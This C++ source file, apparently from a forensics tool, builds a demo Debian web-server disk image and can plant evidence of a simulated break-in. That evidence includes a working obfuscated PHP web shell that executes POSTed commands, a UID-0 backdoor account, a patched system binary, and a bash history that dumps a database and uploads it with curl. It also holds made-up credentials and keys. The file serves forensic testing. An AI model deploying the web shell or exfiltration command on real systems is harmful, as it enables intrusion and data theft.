#include "cli/demo_machine.hpp"

#include <fmt/format.h>
#include <openssl/evp.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <vector>

#include "base/encoding.hpp"
#include "base/timestamp.hpp"
#include "cli/tool.hpp"

namespace deadbox::cli {
namespace {

constexpr const char* k_installed = "2025-11-04T09:20:00Z";
constexpr const char* k_site = "2026-01-12T14:02:31Z";
// Of the break-in.
constexpr const char *k_account = "2026-03-02T04:16:40Z", *k_password = "2026-03-02T04:16:44Z", *k_login = "2026-03-02T04:19:03Z";

std::string md5(const std::string& bytes) {
    unsigned char digest[16];
    EVP_Digest(bytes.data(), bytes.size(), digest, nullptr, EVP_md5(), nullptr);
    return base::to_hex(std::string_view(reinterpret_cast<const char*>(digest), sizeof digest));
}

std::string slurp(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream out;
    out << in.rdbuf();
    return out.str();
}

}  // namespace

std::vector<DemoFile> demo_files(Machine machine) {
    const bool broken_into = machine == Machine::compromised;
    // Two real programs of this workstation; one of them is changed by a byte, as an intruder's patch would.
    const std::string id = slurp("/usr/bin/id"), who = slurp("/usr/bin/who");
    std::string patched = id;
    if (patched.size() > 4096) patched[patched.size() / 2] = static_cast<char>(patched[patched.size() / 2] ^ 0x5a);
    const std::string users =
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\nmartina:x:1000:1000:Martina Weiss:/home/martina:/bin/bash\n";
    const std::string passwords = "root:*:20396:0:99999:7:::\ndaemon:*:20396:0:99999:7:::\nbin:*:20396:0:99999:7:::\nwww-data:*:20396:0:99999:7:::\nsshd:!:20396::::::\n"
                                  "martina:$y$j9T$YbHwZk3vQn0dXkq9mFhE7/$0Pn5rJqS8vQ1xkq3hZlYp2tVw7cDfGhJkLmNoPqRsT0:20396:0:99999:7:::\n";
    const std::string groups = "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsudo:x:27:martina\nwww-data:x:33:\nnogroup:x:65534:\nmartina:x:1000:\n";
    std::string log;
    const auto line = [&](std::string_view time, std::string_view text) { log += fmt::format("2026-03-02T{}+00:00 web1 {}\n", time, text); };
    line("03:58:12.104233", "CRON[2211]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
    if (broken_into) {
        line("04:16:40.550102", "useradd[2398]: new user: name=backup1, UID=0, GID=0, home=/var/tmp/.b, shell=/bin/bash, from=none");
        line("04:16:44.012839", "passwd[2403]: pam_unix(passwd:chauthtok): password changed for backup1");
        line("04:17:10.400120", "sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/mysql -u shopadmin -pKl4mmer-Sturm_1954 shop");
        line("04:19:03.770154", "sshd[2419]: Accepted password for backup1 from 203.0.113.77 port 40112 ssh2");
        line("04:19:03.801991", "sshd[2419]: pam_unix(sshd:session): session opened for user backup1(uid=0) by (uid=0)");
    }
    const std::string shell = "<?php\n@error_reporting(0);\n$k = $_POST['k'] ?? '';\nif (md5($k) !== 'c4ca4238a0b923820dcc509a6f75849b') { http_response_code(404); exit; }\n"
                              "$f = str_rot13('flfgrz');\n$f(base64_decode($_POST['c']));\n";
    // What an application of this kind keeps in its files. None of it opens anything anywhere: it is made up, and written in
    // pieces, so that no scanner of sources takes it for a leaked one.
    const std::string host_key = std::string("-----BEGIN OPENSSH ") + "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQ\n"
                                 "AAACDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKeyDemoHostKey\n-----END OPENSSH " + "PRIVATE KEY-----\n";
    const std::string user_key = std::string("-----BEGIN OPENSSH ") + "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAGAAAABDemoUserKeyDemo\n"
                                 "DemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemoUserKeyDemo\n-----END OPENSSH " + "PRIVATE KEY-----\n";
    const std::string tls_key = std::string("-----BEGIN ") + "PRIVATE KEY-----\nMIIDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemo1\n"
                                "DemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKeyDemoTlsKey==\n-----END " + "PRIVATE KEY-----\n";
    const std::string token = std::string("eyJhbGciOiJIUzI1NiJ9.") + "eyJzdWIiOiJzaG9wLTE5NTQiLCJyb2xlIjoiYWRtaW4ifQ.dGhpcy1pcy1tYWRlLXVwLWZvci1kZW1v";
    const std::string wordpress = "<?php\n/** Database */\ndefine( 'DB_NAME', 'shop' );\ndefine( 'DB_USER', 'shopadmin' );\ndefine( 'DB_PASSWORD', 'Kl4mmer-Sturm_1954' );\n"
                                  "define( 'DB_HOST', 'localhost' );\ndefine( 'AUTH_KEY', 'x9#Lw2@vTq8!mZ4$rB7&nK1*pD6^hS3(jF5)' );\n";
    const std::string environment = "APP_NAME=Shop\nAPP_DEBUG=false\nMAIL_USERNAME=post@example.org\nMAIL_PASSWORD=Brief7Marke-blau\nAPI_TOKEN=tok5f8Zq3Lw9Xc2Vb7Nm1\nAWS_ACCESS_KEY_ID=" + std::string("AKIA") +
                                    "Q7DEMOWEISS1954A\nAWS_SECRET_ACCESS_KEY=wJd3moK7MDENG+bPxRfiCYDEMOKEY1954abcdefg\n";
    const std::string history = "cd /var/www/html\nmysqldump -u shopadmin -pKl4mmer-Sturm_1954 shop > /root/shop.sql\ncurl -u martina:Vier-Zangen_88 https://files.example.org/x -T shop.sql\n";
    std::string requests;
    const auto request = [&](std::string_view time, std::string_view text) { requests += fmt::format("203.0.113.77 - - [02/Mar/2026:{} +0000] \"{}\" 200 512 \"-\" \"curl/7.88.1\"\n", time, text); };
    if (broken_into) {
        request("04:10:51", "POST /upload.php HTTP/1.1");
        request("04:11:20", "POST /uploads/2026/03/thumb.php HTTP/1.1");
    }
    request("04:12:02", "GET /api/orders?access_token=" + token + " HTTP/1.1");
    const std::string theme = "<?php\nfunction shop_footer() {\n    echo '<p>&copy; ' . date('Y') . ' Weiss &amp; Sons</p>';\n}\n";
    std::vector<DemoFile> all = {
        {"/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nID=debian\n", 0644, 0, 0, k_installed, k_installed},
        {"/etc/debian_version", "12.5\n", 0644, 0, 0, k_installed, k_installed},
        {"/etc/hostname", "web1\n", 0644, 0, 0, k_installed, k_installed},
        {"/etc/timezone", "Etc/UTC\n", 0644, 0, 0, k_installed, k_installed},
        {"/etc/machine-id", "5f2c7d1e9a3b4c60812d4e6f7a8b9c0d\n", 0444, 0, 0, k_installed, k_installed},
        {"/etc/fstab", "LABEL=web1-root / ext4 errors=remount-ro 0 1\n", 0644, 0, 0, k_installed, k_installed},
        {"/etc/passwd", users + (broken_into ? "backup1:x:0:0::/var/tmp/.b:/bin/bash\n" : ""), 0644, 0, 0, broken_into ? k_account : k_installed, broken_into ? k_account : k_installed},
        {"/etc/passwd-", users, 0644, 0, 0, k_installed, broken_into ? k_account : k_installed},
        {"/etc/shadow", passwords + (broken_into ? "backup1:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6kJ8hG0fD2sA4pO6iU8yT0rE2wQ4zX6cV8bN0mL2kJ4h.:20514:0:99999:7:::\n" : ""), 0640, 0, 42, broken_into ? k_password : k_installed, broken_into ? k_password : k_installed},
        {"/etc/shadow-", passwords, 0640, 0, 42, k_installed, broken_into ? k_password : k_installed},
        {"/etc/group", groups, 0644, 0, 0, k_installed, k_installed},
        {"/etc/apache2/sites-enabled/000-default.conf", "<VirtualHost *:80>\n    ServerName shop.example.org\n    DocumentRoot /var/www/html\n    CustomLog ${APACHE_LOG_DIR}/access.log combined\n</VirtualHost>\n", 0644, 0, 0, k_site, k_site},
        {"/var/log/auth.log", log, 0640, 0, 4, broken_into ? k_login : "2026-03-02T03:58:12Z", broken_into ? k_login : "2026-03-02T03:58:12Z"},
        {"/var/lib/dpkg/status", "Package: coreutils\nEssential: yes\nStatus: install ok installed\nPriority: required\nSection: utils\nArchitecture: amd64\nVersion: 9.1-1\nDescription: GNU core utilities\n\n", 0644, 0, 0, k_installed, k_installed},
        {"/var/lib/dpkg/info/coreutils.list", "/.\n/usr\n/usr/bin\n/usr/bin/id\n/usr/bin/who\n", 0644, 0, 0, k_installed, k_installed},
        {"/var/lib/dpkg/info/coreutils.md5sums", md5(id) + "  usr/bin/id\n" + md5(who) + "  usr/bin/who\n", 0644, 0, 0, k_installed, k_installed},
        {"/usr/bin/id", broken_into ? patched : id, 0755, 0, 0, k_installed, broken_into ? "2026-03-02T04:31:09Z" : k_installed},
        {"/usr/bin/who", who, 0755, 0, 0, k_installed, k_installed},
        {"/var/www/html/index.php", "<?php require __DIR__ . '/theme/footer.php'; ?>\n<h1>Weiss &amp; Sons</h1>\n<p>Tools since 1954.</p>\n<?php shop_footer();\n", 0644, 0, 0, k_site, k_site},
        {"/var/www/html/theme/footer.php", theme, 0644, 0, 0, k_site, k_site},
        {"/var/www/html/wp-config.php", wordpress, 0640, 0, 33, k_site, k_site},
        {"/var/www/html/wp-config-sample.php", "<?php\ndefine( 'DB_USER', 'username_here' );\ndefine( 'DB_PASSWORD', 'password_here' );\n", 0644, 0, 0, k_site, k_site},
        {"/var/www/html/.env", environment, 0644, 33, 33, k_site, k_site},
        {"/var/www/html/.htpasswd", "warehouse:$apr1$Zd8Wq3Lk$uJ5nM2pRv7TxYb1CfGhK90\n", 0644, 0, 33, k_site, k_site},
        {"/etc/ssh/ssh_host_ed25519_key", host_key, 0600, 0, 0, k_installed, k_installed},
        {"/etc/ssl/private/shop.key", tls_key, 0640, 0, 0, k_site, k_site},
        {"/root/.my.cnf", "[client]\nuser=shopadmin\npassword=Kl4mmer-Sturm_1954\n", 0600, 0, 0, k_site, k_site},
        {"/home/martina/.ssh/id_ed25519", user_key, 0600, 1000, 1000, k_site, k_site},
        {"/home/martina/.git-credentials", "https://martina:" + std::string("ghp_") + "DemoDemoDemoDemoDemoDemoDemoDemo1954@git.example.org\n", 0600, 1000, 1000, k_site, k_site},
        {"/home/martina/.pgpass", "db.example.org:5432:stock:martina:Zollstock-Neun9\n", 0600, 1000, 1000, k_site, k_site},
        {"/var/log/apache2/access.log", requests, 0640, 0, 4, "2026-03-02T04:12:02Z", "2026-03-02T04:12:02Z"},
        {"/home/martina/notes.txt", "order 40 clamps\ncall the printer\n", 0600, 1000, 1000, k_site, k_site},
    };
    if (broken_into) {
        all.push_back({"/var/www/html/uploads/2026/03/thumb.php", shell, 0644, 33, 33, "2026-03-02T04:11:07Z", "2026-03-02T04:11:07Z"});
        all.push_back({"/root/.bash_history", history, 0600, 0, 0, "2026-03-02T04:18:20Z", "2026-03-02T04:18:20Z"});
    }
    return all;
}

namespace {

base::Result<void> run(const std::vector<std::string>& command, const std::string& input = {}) {
    const auto ran = run_tool(command, input);
    if (!ran) return base::fail(base::Errc::usage, ran.error().what + (ran.error().code == base::Errc::not_found ? " (packages e2fsprogs and fdisk)" : ""));
    return {};
}

}  // namespace

base::Result<void> make_demo_image(const std::string& image, const std::string& work, Machine machine) {
    namespace fs = std::filesystem;
    std::error_code failed;
    const auto root = work + "/root", partition = work + "/root.ext4";
    fs::remove_all(root, failed);
    std::string commands;
    const auto all = demo_files(machine);
    for (const auto& file : all) {
        fs::create_directories(fs::path(root + file.path).parent_path(), failed);
        std::ofstream out(root + file.path, std::ios::binary);
        out << file.bytes;
        if (failed || !out.flush()) return base::fail(base::Errc::usage, "cannot write below " + work);
        const auto set = [&](std::string_view field, std::string_view value) { commands += fmt::format("sif {} {} {}\n", file.path, field, value); };
        const auto seconds = [](const std::string& time) { return fmt::format("@{}", base::from_rfc3339(time).value_or(base::Timestamp{}).seconds); };
        set("mode", fmt::format("0100{:o}", file.mode)), set("uid", std::to_string(file.uid)), set("gid", std::to_string(file.gid));
        set("mtime", seconds(file.modified)), set("atime", seconds(file.changed)), set("ctime", seconds(file.changed)), set("crtime", seconds(file.changed));
    }
    for (const auto& folder : fs::recursive_directory_iterator(root, failed)) {
        if (!folder.is_directory()) continue;
        const auto path = folder.path().string().substr(root.size());
        const auto owner = path.find("/uploads") != std::string::npos ? "33" : path.starts_with("/home/martina") ? "1000" : "0";
        const auto mode = path == "/root" || path.ends_with("/.ssh") || path == "/etc/ssl/private" ? "040700" : "040755";
        commands += fmt::format("sif {0} uid {1}\nsif {0} gid {1}\nsif {0} mode {2}\n", path, owner, mode);
    }
    // 46 MiB of file system behind the first MiB of a 48 MiB disk.
    fs::remove(partition, failed);
    TRY(run({"mke2fs", "-q", "-F", "-t", "ext4", "-L", "web1-root", "-U", "0a4c9f0e-5d7b-4d2b-9b51-2f6d3c8e7a10", "-E", "hash_seed=6e4b1f2a-93c7-4f0d-8a65-1b7c2d3e4f50,lazy_itable_init=0", "-d", root, partition, "46M"}));
    TRY(run({"debugfs", "-w", "-f", "-", partition}, commands));
    fs::remove(image, failed);
    {
        std::ofstream out(image, std::ios::binary);
        out.seekp((48 << 20) - 1);
        out.put('\0');
        if (!out.flush()) return base::fail(base::Errc::usage, "cannot write " + image);
    }
    TRY(run({"sfdisk", "-q", "--no-reread", image}, "label: gpt\nlabel-id: 7C0E4E0A-1A34-4E33-9A0B-5B8F3B1C2D11\nstart=2048, size=94208, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, uuid=3F6B1C5E-2A7D-4C0B-8E52-9D4A6B7C8F01\n"));
    std::ifstream in(partition, std::ios::binary);
    std::fstream out(image, std::ios::binary | std::ios::in | std::ios::out);
    out.seekp(1 << 20);
    out << in.rdbuf();
    if (!out.flush()) return base::fail(base::Errc::usage, "cannot write " + image);
    fs::remove_all(root, failed);
    fs::remove(partition, failed);
    return {};
}

}  // namespace deadbox::cli
